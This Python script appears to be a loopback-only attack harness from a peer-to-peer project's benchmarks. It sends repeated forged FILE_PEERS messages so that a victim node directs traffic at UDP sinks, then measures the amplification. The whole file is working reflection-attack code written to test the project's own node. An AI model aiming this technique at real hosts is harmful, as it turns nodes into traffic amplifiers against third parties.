"""Attack (loopback only): a peer of a getter's file swarm sends FILE_PEERS naming made-up
keys at UDP sinks in 16 /24s of 127/8, again and again; counts what reaches the sinks.

python bench/atk3_file_peers.py --victim HOST:PORT:PEER_ID --api URL --token FILE --seconds 30
"""
from __future__ import annotations

import argparse
import asyncio
import json
import os
import time

from atk3_dht_amplify import api  # the same bearer-token API call (run from bench/)

from oasis.core import content, wire
from oasis.core.identity import Identity
from oasis.tools.hostile import dial, hang_up, parse_victim


class Sink(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.n = 0
        self.bytes = 0

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        self.n += 1
        self.bytes += len(data)


async def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--victim", required=True)
    ap.add_argument("--api", required=True)
    ap.add_argument("--token", required=True)
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--every", type=float, default=0.5, help="seconds between FILE_PEERS")
    a = ap.parse_args()
    v = parse_victim(a.victim)
    token = open(a.token).read().strip()
    loop = asyncio.get_running_loop()
    sinks = []
    for i in range(wire.MAX_FILE_PEERS):
        tr, s = await loop.create_datagram_endpoint(Sink, local_addr=(f"127.{i + 1}.0.9", 0))
        sinks.append((f"127.{i + 1}.0.9", tr.get_extra_info("sockname")[1], s))
    cid = os.urandom(32)
    cid_text = content.cid_text(cid)
    st, body = await asyncio.to_thread(api, f"{a.api}/files/{cid_text}/fetch", token, "POST", {})
    print("fetch", st, str(body)[:160])
    conn = await dial(v, auth=True, identity=Identity.generate())
    assert conn.authed.is_set(), conn.report()
    sent = 0
    nbytes = 0
    conn.send_msg(wire.FileHave(cid=cid, manifest=b"", have=b""))
    t0 = time.monotonic()
    while time.monotonic() - t0 < a.seconds and not conn.terminated.is_set():
        msg = wire.FilePeers(cid=cid, peers=[wire.DhtNode(key=os.urandom(32), host=h, port=p) for h, p, _ in sinks])
        f = wire.frame(msg)
        conn.send_control(f)
        sent += 1
        nbytes += len(f)
        await asyncio.sleep(a.every)
    await asyncio.sleep(3.0)
    rep = conn.report()
    await hang_up(conn)
    total = sum(s.bytes for _, _, s in sinks)
    print(json.dumps({"file_peers_sent": sent, "hostile_bytes": nbytes, "sink_datagrams": sum(s.n for _, _, s in sinks),
                      "sink_bytes": total, "amplification": round(total / max(1, nbytes), 1),
                      "sinks_hit": sum(1 for _, _, s in sinks if s.n),
                      "link": {k: rep[k] for k in ("closed", "close_code", "close_reason")}}))


if __name__ == "__main__":
    asyncio.run(main())
